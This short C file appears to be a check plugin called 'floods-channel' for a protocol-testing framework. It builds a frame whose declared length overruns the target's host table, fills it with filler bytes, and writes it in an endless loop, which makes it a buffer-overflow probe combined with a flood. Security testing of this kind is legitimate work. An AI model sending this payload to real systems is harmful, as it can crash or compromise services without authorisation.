#include "zoo.h"

ZOO_CHECK_FUNCTION(look) {
  ZOO_SPEAK("floods-channel");
  /* A log line of run 1 in the shape of the worker: past every bound of the host table. */
  unsigned char line[400] = {4, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0x82, 1, 0, 0};
  memset(line + 14, 65, 0x182);
  while (zoo_write_frame(line, sizeof line)) continue;
  return RDP_DONE;
}

ZOO_PLUGIN("floods-channel", look)
